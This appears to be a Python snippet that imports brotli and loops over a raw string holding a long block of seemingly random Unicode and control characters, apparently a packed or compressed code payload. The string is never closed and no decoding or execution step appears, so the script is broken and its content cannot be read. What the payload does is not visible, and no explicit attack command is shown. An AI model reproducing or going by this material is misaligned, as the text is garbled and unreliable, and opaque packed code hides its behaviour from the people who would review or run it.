import brotli
n=a=0;b=1
for c in r'''l3ۆ3vCUOF 3ͮҷ,w.d;SؐʼrXe^ƾ&:N\YPحO3VӱYa|ޢc1$v-4lvϓJaq˴rE˷"^ "UO'tΐIĹͨ."(aC.fka)zTAҬz>ʟZ\Sl̩5}	RѿMЁ#Ƈܞףߞ2.Okdׄ'>u"=N7-2KMן-zUT¸$|;Qn\#b8ED7
acGʹ4΃1JR#\&Ku~N}mo֊Z֢ cUϵyD4	GOun{Q s<b^4.Wg*R/mdM&eѢώPю޵<7^^)$>i(ڌ,֟ɉ#Dޏۈ,Q6"Ӧ%K]u8ՎSP)-w}@&לCLqٙ\)H.^:863pī,k=[3ÌG@^<0˃xk,Ҁx?ƟE9t
5c:Arp/Xizf{~ǜbzдР?Lݐ86.\>G;$?ѩe$CbL,*vV4mmlόp `5hƄXЄڛ}g3Obd=]D֯.e<`
#*,&PM,7E-S+Ǘ˝F4I{.я~fQ+;(ȾX4wF5MqEW	!&0f<BBp:ݤ,%I( ك|IozVaߓ܈kZSOto2.6VE6,F:(ilAZADHUUp]T-8 JMpr&%lQ|#0
x:
j,D@~-=CNbQP003t)BS_"e3{Hg#~خ$Gr0}cv{B"ŀK3miy݅}1]x_@fЏg1zKŭ6||CӲvd6c#'uSha9+ƈρyo7EcզIIS"-Xk7gJM]}J>`PUDpk~U܂f8( q
ee֘ SHZj 	qfuwfK1qPYVVŠ?Յ˔Qsh#z.3y+Ƣ,PڎKj*/*Z֌st	}G!Q}~A7F]vPFAnASY#jҌ4-e7 8S{d	3++y.g9q?ΰIc|mQuHb6!)%Qp/Hϥo(:ߤKl:U.׆,^ɳ߫@5OeP:WQq+@.;px 0l+kJ۲@HsD\}c'b+&,WM:˺vWq5PPAߺ|	k©7QrނT(ݖ!JYqyؼ>4=ӽ_ޢ9P7ܰ*=]Zl>dKV6-()_Zg4܀keV-ɮɓ-G܁}0ncLi'ĎM	H_++.ٴ)9KVHI٭ӑf[|
>gsE8M3-U˺'|&XVڹ$T|C.@	ۥox8RvfǍٖLVmkW.b Gۊxů*9w+QrF}hQ#̋;ɇ=ɾPȸ}bί`@ưχyT]/KmU,,GKmYcԷ݃{"CJMEbD4>*pe\,f)SXntg/V[9s8ۋhrsBtD@3_Feb&> u%%@)]Ȃ8e93(cc
b20 ,Ҏ6ĳk	1(<M=}h+QOf]شUxo/OAV6u"+5z%<D9i/8Ҩ	op=|۝5#lUk[=Z@9ruIf{Y(cDpI#SS_|0lՆwAm8}ϰEvVHυ	OACZAhq49S@/O GЄ4)/Vlcʊaz}{Be
fyM*g!hJ(Jiz!@{%DgO;[ϸL>Uq-&xs.=zA)%=O"']S-}rG^5Nv`}6ė^R,~/hҚyL{;eC]%|NqĝW1GIE5sYacApTċ:Qy91WX+<~B*P|dq=&_N{j83>="#Fnq_ҠtJ֭nnϸsehv/aˈ+գؐ%AW{1r}%Ӹӓo#04j{$,5 ];Pˉ\	H%SJlV]P=OR7:|E~yr"n;@;8֖a!cMjG{gf\w}
=#GGPI;H+tK̶0hz[J{!PG7,۹&:XNޝkp8Μ"pĒ+]>B5$*CK4>Rk=ye_31ni<\?ɀS@ƁuTk&o/V٫j3d+2*J<:
hw	=u'bJ[Pqִ0ŬFVʼMt=YڢgyaGKy״ ]$nb$>ĨַAp.њشgL]#(Me4'$-Eݝ׏Mr£Eh"B@e+V#>#ޣooύR>8DNTng/b3~M?;C:FЕW5w;[ZEs%̳BD-ψ{ϰo>,@W6'WӆzT&ߗ6hQi^ٽN"[JbU]m'N7@XX*k";eE N=ݫߙ[q
HߥjFJ7׾:C>7C1*իd!}͐[Ekt1qD>Nn2QNXM-GG;½7);7s8~u/RےBoh5לCDQX"QيgZ\AR_:C*a<UY%rup>yMbdѹe{9l|,M_?_cgq{ť V
]zlD\`YSm'4Gs)DFֽ(6¢Gi8ۅ5gSpPtRªnqUҧn*wwIqIτ#_n^+Ly~&r;f9nlYȏX;`ڜa%S|p]Z]Q:'BQ2ŲV%$pPO%6{R@+\F-#	`xA!`:!v^/f"Hjl=w?NDIj}0ZF&ua`q9aQǛ)6z
gbg!eidL}'e:<Gɺ~Š"09|u3ěEW^ԍՂ jRˋRAlԴ6ǮZ_Ո)ۇ+;<i38ӿ7&ؙ2ٮy!o{VQ	-@þP42.kph|ta+	V%-7_7o?@{{Kߨ;"Y|G
ٿ|Ѕ(5hrWͺO½ea"isd>"iB'14gG7`#B"i֘Hԕ̦EӪȔzsLʞ"M'zؾ5.Hb`vO<7_sIO)׹ϴ\Z3(BNZ$o0Hda,nvqfԗ͈7\&{Bwnze9mΆ%E]~9ʏxXߝl/[ʴ:\ik);TW(h֙2!f/mä]dmJ7AD!>u|ҝT*2Շ3Kq|mƻ7eDƌ
d)BhqD1+Cΐ͘F[fK4t;ݓOs}}IE* ֡8qF
ޕi:zn}P??wago׉|-3<w.khLAu@њm~occ>2Y;KږJW"3J%XPg%cT%`+'	u^ůΧW(wfq]՝^x)=nѼ*͓zXR»x?sʗ߇jPʓ$PѶLz.̈E=nb,tXˑ'$_rƼg)=NY΀I?!z(wQ_!3SU5Kk}6٩ޝ~~;7q{-8ӄʆGΥ\4=As|Y8Ypc`?W$#Qw{ۭq3OQkMî8\V[ޕKj<"%b )*PҴ_oNAmSGy52\jL"3?X*,YqĜ&Ɨ\
IuwS5Y~շ?)#ih٢$WbD<Ы6`@:oPi͏Aʰ`u:0%Ah 8@!x .̑;S4oٺ 81wUnj"hݔn(ܲÑiG0${VnΰnFdh7ғ FuD,nKO4U Na,O*^.nnwKJnXF}Ǵ}c-%!ȫ״DiSjBt3sg£ìSc0BBm%NLo5Gctƍj$5BIOBG=+Zx;$'y1]!}ܩd8s$?޽>qobeW֯yr҄]Q}̠[N-.jm,|1F|a!6jYg^YB6Ԑ-Pэ/ՐoCʸǡ^h?p:4ʋhH~T2ڡV
?ص<_U²FVp#1K.]+SP5ؒ+-Gf)@ J==KD2GfMמ{̾Q
-}bdQxـ70^/rz<YzLvCoRw~HKYT6U.FH]zOcQ(Iw6W2e2Éھ8TSt@S6uتPBv.aFsJD{{%[('V_55Kw$A#+MɫH`K7*(|>QiBV.~d_4q֦}z'vX4}XĖ/['f;U33[QzWVԎjxJl˹&"D|A߬Sߩգ/ͥoj? ۞583iÝdΰ_
MA՝xs!`LKYKAbܳݼJiT.v*gJECUf|z&Ԃ}щfÃZEP4{O:>?ƓkC@MU0A#>h#MR1(Q¹Fd#3G-H-^@ݔ¯Ց5ءNB%:'Vy6~4CW)\	JaLq.#tʠMG"nX9>2hX,3E=\ܢ'ޓ|۶w[Sݐ7bW}9/hyxp [٥QRy21*@1KRDe7ʱ,GNę!GLuPFx
v#Цr{
R^<i3$q%,w
LϔOY+3Vx'gAzJ+7;(f)\\
/`LҎ'¼T	5,4z0DqEWs&kѹ-'bVqo0VrVҔO4{tRzqsC=3՗wP3t_r!hwpį8JeWAϻgPw3qF(oɞ{_ׅͪϫoK%̌Kt8*ЋBQU>,i+EzOUh>ȅO\T5م}[֜kma!#e:u0`t86]99;$5LģB]SbiShJq'XߥU;s(
<Sѯ_wՎ"O_
47с[`Or׿}>Fu'?2	f9ŨXko+uQe3IgQ<È܇8{m17dI7bw_ǅ]'"3~@^gXWM%֖Ũ>B;hIfϥRzW7O>O`7L$Y{9߯RJoSiXiYUWҸY2_nΟ3κNղf~qhزHΜ˘ec1%l yeXlg/`4ʺMǴmd}jű~ȏή<\HfqO״jkgIRQ.Խ "'9[$qE7.`Wq@|(O3&VT;ё3ܩLǽP5ƠތZ?ZE,gfհAZ-ZsgH{8Ạ2>-lNĀ#|@][3Թ}6+]BSz&}S<{^J.,ՐsrRIymfSWLQwX-BE0:`ƌљR3g/*kB^XݪNE_1k1[h'Uڻ12p36ڈ@	̴-hѩR+O*ك#tBOfB1h!<)2$HHȢļa;:7{Z?`f>87Æpd*Tl4tb}d*fh,i  s@ZsgyKv]h7`L-Hj~c6hɽ Ѝ3b~}ь^&
\hYRT$|ӂ~sV!sFH=l(Zz1Lķs.zH[Ҡvwxz"N3ٜ:ö@rOgɆ6?	
}](_hEa5
=V[IN
K=;pd\~z7)DQŤTĶնtrӇ!;-A^+Mъq)ԵϟQV?;:#ֹXY_\.ѧ4܉(ilb`b|F%~0ܿɀ:Ϥ:@)׷m!2lbsa	.Wj1VU1*ږWȣʽӡО&g'ЍۗkCMADvcW%ZtzĶld
z}6*A6miJňw&oXs-=Ԍ.x͚Dw,sRPx1?֎,Ё5.>΅|$&a#FeD(d1^LDǹϝt;0lCƐ	זbš&JzCa4NTߐXæEbxS+VGl±Vӡ;ӕu0ެryi.lM%8T$>L&Vϯ^8zUl1ߧXv`Qш%#i#MDPQDlǧߺݓ*rw{};'ɣ	-k*V}[!^^y/baAД}8,x9ЀϘpωP`2[tfhn$".vbhZ}+>kf*P:.5x@A6{o2qY/#<q_`[j%^mmrZ^IzS!jgP1`u{fWY4k4~ZШ\"	?'ߘvZ&!}Qζ8SVvYaYɉp\0mݣ˹ceر5b"cvErبwJޅ>}H`ɋw8_4'ۏ(v//1e/aLgjDYa}T6'o?wvի֟o+4;{X_&	af9qcuh@(C}syPz;+NCaT%KK>wQhߘZJ[dx\qWy2dVe->?E~;~^RF[A'H_^у5ݼ56*a̴gYDKo hu3;N_N[э4;͡8aD.2y4/u­kdTp;ސ:r1xZ$PL1ղTC(k-u`:0g9mZ#jsXnJe)VO ǸI1ϊ\G\2EsMseX;JeHvئ4f}?TѤΝ@3Ts1m~=ļpzӧ`&(ϰ?  F;d6cA8B
^zݚmgRZ'LZ	a5f(!GmxSV
IGdעh.w?>?1.c׷Q|3n~9ٔ%RDh0A/iNM!Kmw 'x.9\v'0!'fSux߆{WtǱB@hԺ3$Cd3l?`AQd~k 
މ̅ҰP2eſ:ޞ~Չ-Mb)[ݛ\
A}MpO@Q%щցJOG4$"]\fQT`aeG7eZ1*Gķ\e3mY"uzf\ötf'g9sqԠϼg5g\ȳ^
ҁ;Y&87@:em_^HO0RҒKo,
@Ӏoȸ=Ϸ;6X-dެ
{`c]q8}Hy4%Eq҂|
ll|t20Ω-m)5X`0U<:~{,"34>٢0>>U9J@fYͅR}{2ʛ,(ךܓego\Nڊۚo|Q=IJ+sm; Җj:fiO>
sn{	&=]1=۾[(*߄uR2OӴ!o,YО]9k)ħ(sM
dTNmZΜỏ *a߁\hN_)Șl':;C@`_؇8F54g!||+3΋+U:fSWTǎ u8	Dx{my[ѠoV\RK*+V|6U´(6MGРc3fķٜu~i 7Fg״yjy/Ι8*9]ysAL.g˹XF7j	hoTtUq<0=B(-UޜOgV2uB Lhnns:MRh~^he-vceo(?4GJ$n,?bRJEQ70]uޛ}ZYpE֩a~2yܗ?>6c=:ށs&kS'EȢHtenty*xXZŞ`m~SɬUsU%*mU(Ȍ`0*R޼?4׺)HYOڅhNԊXAg}ƥ`HVb{GC~j?1!˒esɐoJSC̑Õ98
ȷҤ|	g.[׊t1[a,oMkg=AsIZU{ag#\y6oClg<nK3JK|Qy?GJTd*)ܠ|eTnFesưI$9цߜ"'Ý{8/m*Ök8Sj~'Zxe?9Z
*LY؞dqpvޯ7dkzs8n-ƪ=oF )ZBzd7r\Kߢ.F
R[jJk|we'HPo~ԉpF}˫y~`aO۞u[!<ű(!H#Mk7Vwt)JRط	>07j^8U.4$٭T$\1Џ]Sk۠߆4BlU?$BtFcD϶G0¸3!7-F܄5}&̊MCծB)m1>eܻB6d٤$
[KYhC
Jd+1,lk=ow[>|ۨJ6:"}ylkct֌'R[C1;@%W>Ba%\/;	Ӭ_*Y&AE\3t(_Sr!`LdӰJ{ҽFoD6j]n=qFbElUBVG֪?_=٠6$ڕ[!`֜v
9"̰fe֤8frf7%qg֭j,zKzF3KgV|%?ҖЙ5ա!cd+TҖqRpc-ZCp6,dB86<wF=(fjAd}9O̰w$1Q18P/r]VMN­g{UġRs^? e
z.)]J`ŝ0Q*D2<@pm־h]*zsK=ƉQg1P%˪)q֋fOmRPjW n]q~cA;aKZɆnг$Qt4Yun+>R'<a^1\`YAV-noLݶzYlB)Ӵ<b_|ަ܀
!"E]gt925GC%([zҮVRoLH<Nz߆Y7Q-TZ=GlI#9M˃AVs\ΐrDcqʜ?_ӋJg\Ͼ~փ\DKw92 <XpjcLזjQ1K^(j0*! 6s[X۟VRomwo='5<m@%j;STQAx8P-Ô<EDqĊ3F5$v"7N4/Wl)g+kϵ<G.$/ȷCE'5k74_b~Yߟ
ѻRa8ћ0̟<"6=Eyjҹf[vb7j9ϊ°G
~RUkzO؞sE<_ޏ%/ʃ%aϺ>nʣaH7ۛu.ziܽ0qG2;@\AMƁNޢsxϚB<?&FG"|uJH|GPߩԱV`G-7>h>gn؝|f؊5g<;;)*h$PAka*їr>CwȾ)SeÛh9MQYx\e1Vit݅ȣ}H@tgiNCZ-%μiVJZU&rȀbV r1	JUXNدwv:o#/zV2U\I/I^d
֣\{^n (\klrq`y1;zdUB\18)H,ȌAda"u|ӷ~9n͋nˋ4MHNɲybU^ԁFL#/+ۂUc%ΗA٬GTQeҙ#vgzF׆P~l-|??V ̜16Խԙr ]*:exy
ΒTCSijjd:lOPĜyӸ?gֲ̯ϛCڕJpO}ߏ\ld	 ͯ܌-&!D+,,6	CkD§a`&95޽P5oM3XqU*!uR.*-vɹ8
͓&s%
KsWQܚı4uީeǭO8Lm *ɜ2.!+Kc@Cyx0=J<N8}ݏ/1bg=߇;New߮rb.Fǧ!2%K(;P0bϖx=)O{%*f9s]gxз^ө,Kn[AɯY$Ohk!/'XR(.@MF>tU:׬|(ExkθJUÚѳFFy*m~1D*=̼U@ˎ1R+,J!/EϛBڸ<7eu}Nf[qėl&m@*֖?':ޗS9A6k#\.RgJdz=/T	D*L`݂?kܝJgf A!^6|" )ĽGWQHczcEѰĎDzm1]ѕ'FDfj:]~\7A/z?lc̱Ͳm7!C¿Ѫ4tΡr%^҄ҍֹVNAz<P@
t~^:ʆq+6LY}sqCVvǎ6{fUhέֻؙ$4Ѱ&KDćs*cmY6)_$Jܧޤhlxi@=^#QnʆƎTܥMpQ	w^K$ޝˇREfzUt@2Օt+LWxݵכۏpN[x.B~;o1Իl0F!@GdydAe'
3~֏kwsK2<v©<L3~·yon8N5ۤޡi0|mb|kRً`"*.erRcǝc.ǕsD#AVG߹[iՇҸ8Mw§b%,Q{[wg׿̊T#п{	P;=t_rٿ*n	CqIN2tgQ2!Nk5EkQôͣ2F$uHи<ŏ#"reՃ)|BBR<XNw@J1]uCmqm.}gLEtvYߚ.	:,ݡ*q?]p/d?66Z8h28(-Sd@*YYFPVzRTj@Ar*A-^ҤGKo2^tXi=_٨HS
[Iei{Ҙ+Qc!qNA3Y`J'!V=KG7\ϵ;ۆ`ήbw?ƹY 4ه!A$ҕƇ|vnߗڦNU4ڕK*2jL61p"Eެ!ء|)^K+464Λsע+%9}7d`2(ji ܐkJ-_ͱ% o?}f,Vʈ<Sjqx]!6l>0٭)iTʹd]j{.i#4>ͳ̨؜3Ghgv`\e4P9)	Ʋ)O-͏#RoW
yRrMоX\
Ϸ!h 0,\SJg;4dۥ3;o)Q8DtrOYڙA&">44(ܑǻFjԬ?B
\6[®^ܨ uFt6j[H(-]D%`ELڈ;gB<߱LmkHʂTvw5ªjގViz{-#q͋$R]@	$g)x-3U=߶/uIVF9e;^G1|YULbqBY]X:.qS0X}`x
F4=/3̨&uJ,
X	{НY1iK\'o9t^1אuҫ1s/Ln{I:W?Z?˴6QObuղ:Cݒ~w02itޅZ<h<9#ܞcNr ɑ̍l})uq.L"RiH
¨ #2[?dUf8HVR`^8.ܧfǤiw#pvx[ߢZbL٭DO\ߺQ76#{9Tԉx+lαO|yw|g].BM,1Z$@#`%_ek,_ëH{IƁN9mUǟԻ#\(C_G.,LOm?e7rL	>d&f (K|em>GgC9h xkeq&O.M#c-ޚDNR
ķPRuH5ʰO%$vʓ@ܒKFGJTW85#M_6)cS1.*BK|-[ђ׵>a_.rL}	x8$X- ~6JDCs|2lM׹ {ɦeK-[wK{,"s0s߶OMɅ|2}B2w5pƂ1CS*I?|&6#?#${ѬtSɚx<zWBГ$]%r>ҡlguc}v#p*~ҝ`;	~Wt#
ndISt6ck٘gRs[yM N'P?_eW·y^ 9r%h^+2f@d·ce.fz2s|lPUҴPܒ	Ho?.|ME\iVBXN$]7lƯmӋ	Ci >dK9[EG̻--=ՁmךGW|/5T"jt1+@b>	0ՋZ3:9Ъ/ŀÊݭ
T>\_z˾cGLzx"8&D2yTeg0
ۘU nG `fQ)[nEQʡz[hRiĴo_±\/Vs,tK
kjT$T;5X՝Ͷ܅X/~j9%գؘueqɕrSFU2Rw`oWY[{%s-ׇ!jm|\ Cօ65vKAjQն˷kM,|a@+	SĤ"6ZQr;ʋxHX+îw(}¶~$=Fw&r@Lçt*5ť4IBGP6Zh&b{9P\\zs$7T9K%LFVQ0گǥv{KE;&!AzHx ODpġSC"҉\s>؁)lmsEyp!3d
AkS,Z#5QÆ%f:TX/\'5Tx\b(ælAnq6(h	.+QofY̤άSeb8ȳi4oC|Dif4QuIFҝF?:mJV+9ss$PڅoZiR7D]Ε)=AfNk=mh(M/*(hGO%:еߎS"<fAķ|!f6$XO	5ֱ3\;P/3FY4/8jbK4tE`ޭ8dDcaa`biR"R&jֺ}.ka?:/iJ`^qۇ~|7(ѧքa|+'J\}߫LyDkĞ=jHiX|M|BNޢ̠8׀YêOU,Ilg[̩<BhiIPu6%boo:s^1!QCÃ[kA>گ#@k2MWgWGDnPG>*\$ǉ2pRP5#'YHHאsW|<

fʊIDzH݇Lj)ۀ?j	.`EɌ^`e/-˧RFƀ*5L8_j;ϑIWQԦ!']ޥKnGg3rR4{+{ybS9Ҿڞ;2$DLHȤ1V[M"1`:5Boj&<Bs?-kWx ecttD$˵8_\ܼeEFΘ2v8bI}fl5Z	'7%2I|5߶/vw	abPY,ʝFWM?Àl1A$)˰Z#0AJ.<.
zǩ\8@ֲX>AȝegPaw+SfN@ˮS7w?gKr}~(<=oB4Ү{Eo*ZǋM̗wwUg#Fz9`ցЃO$6DUL8!إ	[U.NMW?f"\[hMnԎ."2-}8Q	Ș<5ܭx̧?:d.s}֭ޓYCj%4&?åȥaStosfxbdTbȰݝ~ěA'nY{W2fWݕ	^.*&>fc[o 'i<PeϋvV5!-׺$cMz#{yyвa6GN+KЯHg6ι~8ewA&jiDP\YGJ^RQ$?Ē%fk04f`r0qF4,BK3#I3k@ԋ-kv#8yRZ:Adnd
0jx8U`;u(=~F>#4ϒ0u6EH;UѽyIئʧ,x^_:1tsWA820swP2 clFqR͚Ų5Q8L?13jKiڏLgё2*w}X.z'oq͙/UxÁ8	zeE6hD,jlǅ7N%S<|$̢DgsF;|F|s^1(nX̷qOLq<Ͻi@%@v|eF.HN͎ic|T!eC6+dP^T*n{&%2X}/p|6D}TZؓ5"zL7֙z-\]zJQfl#vP|}D7yNj
Em na`ć0Ws5OU&g%:1.̄#?:F#(+X==
n>Gݡ:\ڡ_?u^qr@Q68&EΕH];g)Up
~XqBO=R;ݢ/`ǘS3_=i
+}$ӇhGr&vkkڄ"fƮЁƆܬ݃ ]gOfJ(dժIe/Exre`9K@eYnE۬-f|Ix]ur\+hς
Avz݋IAJܠ|ֿJ϶/5oP6{RG)&0{׸ҾhpR{zte]KoΞ-6Ez/0dV!>@?7e߬^-HPM_ pKPϬSӔ|\:\^wšaJR,pUtNLjo?4NQG~۪kJ(]IIDBmT{|Vy}4#ՄzL9GBgT,H"!`}T ȱ?[4lPڙ#ߞ@>?K3
|a4o2i^"YvmBE<%R@)oŠHQC~>fBA?*AgwTjݵYŬ9.؜±C[%5JfTՃC̰QXpV$P!?^	5@ܿOQyWtǺ@)ĭ̘b`ޓ?(bFv)G9<r+и<o3Zdk8%2Brudvڡ[:
]Sܪh`4MN*
ϵBN<ZGwY5Rp4tZΨN݇*ܦu<2DݶWʼg$"AVǛl,rip1tb10s5
3?5n6ȐC,ex[ɓ%c	*"g?1Ѝ?]IQpwi6VR)fۤ߸
YNnB1Cb'	8Ť"r+׻#j#@HOymZkH6ZӯZt_q-g|oH
bG&+-}گ 8$nA>}wx)aj;Zr6QJkvn1Qq4hOK*lVN2DʺOX۬ J\u}cow}7X 
PbIAalfN~Њlúў3A.VôS	ð&aZfjfoU!š[ihH0V[{&	3ߘ>w
	g.JӔ%T1R&ѱse9-M	(Nu#D?<޷9
%Gբ!D1D\8)/nYGݚxf؈*זN0VշԤC[яJ&%~'vѐVzH8 =ŒڐEXq&zj{}H5س-w&׿fwQ<ˎ{`BLR,7teuj"a.9Rp;
#q-KRj%=(f;`tVV
=VLBqZV B`A`!JyltbqW ؐh)RcTe ZXVxHZge"o"ưʖ_(ʡ/xL`*N:luc-v;w`&chaOQa,fav|J:=zy۩`sqL+ހfьYPAdNCF׃L`$lպ.O"ӨjG1yz	xı[.m<5Nx¯}Y;JkT<B\' ^xxnOo,RޱtB^P5pƚ#ľK%u/bO{:/(*|Y- M]O
|1tTּ9sIãs|͵?Ϸxݮd{H.x"Vt%Z}+תm$+?2ӯ	G|_/
Fp};rLóHHosBFޓg-DUvcVÔ(x [^e֞eor&Yue!S&cːђ٠RÛs:ba$;+pK˅Ӽ<{O&7ǣgˮ#!(9 V߮FmBhh0}kpFw;s!u!}ՃΠH5i/TȱSBtU!4ːYڑVʬ>yAeXAϝb֓G6%3KJ$Ueĺ/j[tL]o[ʂZqݰKi:!;??oXls,v\M.|jo"LZC,3m=,JrdA'<UMR[7g%[%:S%-כEC24RÐ;	E{#>ky}35
>Fd/"L=2i	<7+vv*TSȇ)؀?M9aZ+i+x|:԰˲p/elc:k)<<t$B![Q(qa!`BҒrd܂ړb.P@Jՙ3w_uP"yHmܦw!Ϯ[	zh,H=+MEc*5=&l"{av$Zi_3Yr#)^*8ǥ]:y@6R8T}i"΅pєhm3Z^(̎Ѫ/M[K4`Kgtt[bΰr\]aޫBY+9=H ǎXҧ^Gwr
M^qFP5	(Hh'g2/gxѽK6RG9tKK(ѩ5Y?~@08V+-:\G߿1A9x}TНǅa,/;nmyxϗͪv~h[jb3ڒ*Q0n?W2.Vvأa2QvmsKa֗[ٰ}=vאԤֲ2Y"QrtzPJ^v#Il_,;a".WuB@R@V(\]͹GS+ߨUxU>Z=S+eK0߃4@҃/=	?0-68bΑ؂ɼjC[;vaËr:åɂ{>s?/{zř[[ƫ,\zu{e؟cD<b9gg~֎śA؉ߕKԼ)3F~aR_jxDk)^g@vs߯Lh؛ä	g>۔ܴCյBA-%v6ׂ3@;PTVtcI`mě)Os))%/!YxӏКȱG+{x?E8q]
ooVVWߤǴ`aq|L۹6Ȱ[=Ƅ;9ہ$`q"
Tz_h.A]G"N<bx5qZ2FSx)ϱs, aK)QML"6%8h>AM
WKb͸mlҙux]@Ƚ؀:'gɑKWAp.qB-E#lʐ_L1<|))o~~M[tDթLBG>OE&C5Jg9o)nv|D3~{הܣ`E)ڏ&x(
bd!}E _אS[kdz4S~WP_~"Ǟ5`xD:>mZް9J<PyMzIl_yM(;SYnxzʐYFs(PAؘ4%T׮ʩ{/OT\54~R-)s_WL?.o6t %үּ*bDJxFAh({62|_+Ӷզ!@mt4aq[l$0INR/}[fl|>Ur\YF)|zĬWLY#֎)vɼD q%csv
P/#&ƕqD7LP,GǷT-Qĵ+]
t`ϪȼfDkuFLYQr8.&5j/  Fw"&X!EQMvxz4;	yl1+,J{˗W}4#IcivFfZO7p3iȝǉTh`q((W|dgfoi0-BSW.ݪ6־1?	A}ǚKf@o$֎g[2|̯r×`'o{#	B?'p-Bz9˒AF1҂bө(w"xء˓'\*¯NVՌam=5g2zߜD/?|_=dM%>swTLъ~,N'Z/q	MӱݏƮ1uc!	HƼLqEFnR]q`&ӗ#f1Rɖ##(ͽ"8dIeR6\5!
>3=FPxS%nM,IxQa/# D+Oģv[o9NFHbK~siPm9r!UKV+#!90O}gXz]@Hl-z(e?J§IA!971E]ۥj	<Kdl42\RK_~ZeVvٺ݋X,pn=SLňSs$|עwr%*ޕ@&/4:eBԚVEs9uvIvcV(_v]$9vc7UȔ7fܤ-ΚW%Cd\.ppZn`uK0fSad]cx=)YfS2@S7/,ͿG̐8]6C4k wHrH|\ɷD'S\A0JlorҒn_v{TM*
̖a<7rYj.*Ȅ.OaxڃmTj)olJ]&cɄqۋ]#@{v2wlșzos&^p=E+jݢnB:њ0l}Љѻ2Xx_/;åVV')G^ZM#%C?>T)=ssfdg-٥GUúx}ƋL?\'en9>͟j#2TPиH<Zъg!\|'4?>Yv[ƨU:F-&9Q(aK[Ӡs,BMsnCh2:51t)2FufP/أ)ҋUݘ5^q!4v1*#bпnNΊ'5ya{_wӪ,|u"7Uf^_d*=Mޓɴ>}pL`2MnBW%5]_Nu-|~!j5am p1ִY;Tic'>Uɲ>OR#d;lԏ(Vņ>#7"ba͹¡ݢJcTR-<P,fPEOQQrܒeil	-Lnv;٦~Vo״<!-~Fg1Vk$#8!@;h-0J
nq.WJs׍к4'ɲԏߖz֋sbe̓FA\7+W]=ǹeqFMd[(g>Tny#W.ۭVTӹǌ:`9262T)֛ofkZUݜ gҭ!4/ͰNl"f93D5VƷEnk3xp;|';v &ٕ]kTADҲOwF4(^@g4&~^S%[N\|y96BÙGI2l}M&
#.c&gH!M9g ^Ũ$sTۺHw8l\+0;ʗ1OJB{)s߹mIXUՇ[K\R-.8~*q\#MW%<%olgwޘb~*x	"Pdrj؆n!Ө]"&de!Iq(2:9[
eu<3ƭH)jKLE0d5!Ql6|
tv4*؃NKx[w3VUҹs9TZ7JSf[N'
QUX֎PBFƐ
h6٦+ԒMޥY~U<SZo>9L&ܐW svgR.<?p2w	͙+ӲLQWr=}<Wͫ> Ӣt~;ta?\r%I"~BR}<bTaJA[$ÎuVߓsUÍֈj%}6E`YH7[ϧx&a))h͟ۄЮtМ2 zm#JèpEW1$
/NSQlRʒwt^sU[&sjݕo۹K<u٢6bZNApI1ՒKP8T8!	%gEX E:0r4xkDĖXA80{uNjhE[Ic!E3,.{¹n;֒3ɶiCr=<	}; -wAm*fʢˡlF,2~è,/%n9qemPasޢ;R_=?tO*ȟ1rsC(׫N> 7MjeNʟ^Wj{6ljMNo>5=;O(lQ- lNQ<^b;"'LF@jfWKGqڸl$FvW0@.j|~ĤFR)L;B;9@k
^CS'hnh$"~*]҈Tqpxd#/58qp\	ɗ8׳ǮqĹs['f5%{U{ݨu{tϷ²&kq*dbѕńUKa0޿M_mެ֘@B)n]Aņ(fNKI$1ׄ԰J5~͕9v[TW;wK(`|>JC9}*E-Ɔ{S(k_ŔD]M=$LksAOm>`l`܀-Nm]LIWT.QS\|A<X'C_asj#\l,^Ncz}[üګI!FE(iU!N]άF{!;L,|kI1wespŀ_4\pb`m	ơӍ$h$nmtBńR<'G735:B
K^S}9%.".ߦfhQ(ݣB6a'eNT g59nВAK:egbhspu8#yϴ|&@`M++P'.MgIXۍyޚې ۅK*fܖhp4тr2C-!StdB+i|CdvS~,x.\,s@sKB!+ܨZޤ	ե	C֌jâokH]a{
CO^wi
ii`gƣxGAɽ̊C1uŭIrex3q>؁+eAn)KȀ́x=b	J7,<Ĝ:TGo%yݷ]UWj˹Х1'z >
s۾'VN=֒XZc
l]:+yEfOYl>ڨJv/9ȴq!Hj>݄I7ݰ4wԘOnq	ne_CUn]rBgXz&ze՟GA4H(җg7_:rldޭdG<snuД~APDeVNܾrYqtҟħ>MbLH[EݴonOO݌>?JG]C+|h<{EL-T!OcL:Ѓo;:Pz7RoyJ-˃oI`΄QEj_m&GjU
b~/8ܽx>Ȥhqˊ'LҐf4з֌?ƪ5x)	l:tj)B]T`LwbG`94o`ep/ʹ Bo/fEI2Lo?yv?ӎe0@ >ΐ<]EƏMڜ',d)%&:vp~W{Y,Q+Tߦn=xAn:+EJbj}2Ǘ̇1`Xw|Y->C2܊<Y gԎW|q0ki@Ms{,[1_KƪYhN *PDUnݬB1+AOQ0y+Mr{Fi%
tkAt81x[hdP1wdH<Ծ7h!ɑok:Ӳ]Hآ_+>6@цSNGDʓUԞS0zJ׈Ŝ1>#e<E7O˸Piʢ.3ͶkH,_͂?<&wlϊ=3vmХãB=tt6W==nR3ؖo?Ր}<͏Ұ*^Kai5h-W̻R˿~^ؚ4At09ĹD\(߳R)8u͊6
u`vϣz@pEhFĩ{@s-҇;
pF+ qbhTDw*M~ =blt+{Զ-}V?uި-ߠaxV5DȕGTVK4Yj#/̂[jgXeҠ7):ԕ݆fRkj$u^åF
;ٚQpXNmjf&}'wخКY#AB|ޫyϋ}a'w^|J24g
b,ǧjr;2tmž7zsYS; 8ޚr\e~wrɷufdNWѥ<>.>KhO0J!~Dtvw C1=Ձ1ksAb3Hez}>1c6<qm.&UBD!{UwڼPK)ab
Un^Fwr;hЄ?wGr0$u]pt%CZK6ʒr#ۿѱ{My j32
i/ȧ8mXYFmͺ_;K/;9i!m]~%1`gST]$'.A5//4W^yg0ow?(m\}B-p??['L]>?|X/\qf1[irXoHRVN|ӦT?E=Ԯ*o>Z -FdV2ӶԔՅ
?rwi,T
EEu7,l@/?A"HVq_o_cS݄gO(	~KEn۲~'oU-` xE@guw~DsГ(Cfo4FF\S+]{{Z˯-*4VT-sb{ЏGЌBUjUZfeǀڒ,:bA#tC΀I3j0MLHE:uHD7ND-qZ|2lwYϳ6_*AVd2Ś}S{J&Z"˪elD~YfthSL-
B|>J߉˓"vɖ8AN3bߒ Os-O؊bl>h:D:\7c̣!q%Gɟ#\<^\cTCk}qYo?/p~F
